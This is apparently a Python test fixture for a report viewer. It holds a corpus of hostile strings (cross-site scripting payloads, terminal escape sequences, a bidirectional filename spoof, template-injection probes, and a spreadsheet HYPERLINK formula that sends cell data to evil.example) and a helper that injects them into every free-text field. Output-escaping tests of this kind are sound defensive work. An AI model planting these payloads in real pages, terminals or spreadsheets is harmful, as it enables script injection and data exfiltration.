"""What a model, a platform or a data file may say to who opens a report: one corpus for the page and the terminal."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

HOSTILE = (
    "</script><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    "<!--<script>document.title='owned'</script>--><!--",
    "javascript:document.title='owned'",
    "\" onmouseover=\"document.title='owned'\" x='\" onfocus='document.title=1' autofocus tabindex=1 \"",
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[H\x1b]0;owned\x07 \x9b31m \x90q\x9c",
    "invoice\u202egpj.exe \u2066isolate\u2069 \u200b\ufeff\u00ad\u2060zero",
    "null\x00byte \ud800 lone \udfff",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7 %>",
    "</title><style>*{display:none}</style></textarea></select></table></dialog>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a" * 40,
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 " * 6,
    "W" * 3000,
    "line\n" * 400 + "\r\nand\u2028sep\u2029arated\r",
    "<svg/onload=document.title='owned'><iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
    "\U000e0041\U000e0042 tags \ufe0f\U000e0100 \u3164 filler \U0001d173",
)  # fmt: skip

_ENUMERATED = {"answer", "kind", "severity", "improvement", "role"}


def poisoned(value: Any, text: str, name: str = "") -> Any:
    """The same view with `text` before every free string in it."""
    if isinstance(value, str):
        return value if name in _ENUMERATED or not value else text + value
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{one.name: poisoned(getattr(value, one.name), text, one.name) for one in fields(value)})
    if isinstance(value, Mapping):
        return {key: poisoned(item, text) for key, item in value.items()}
    return tuple(poisoned(item, text, name) for item in value) if isinstance(value, tuple) else value
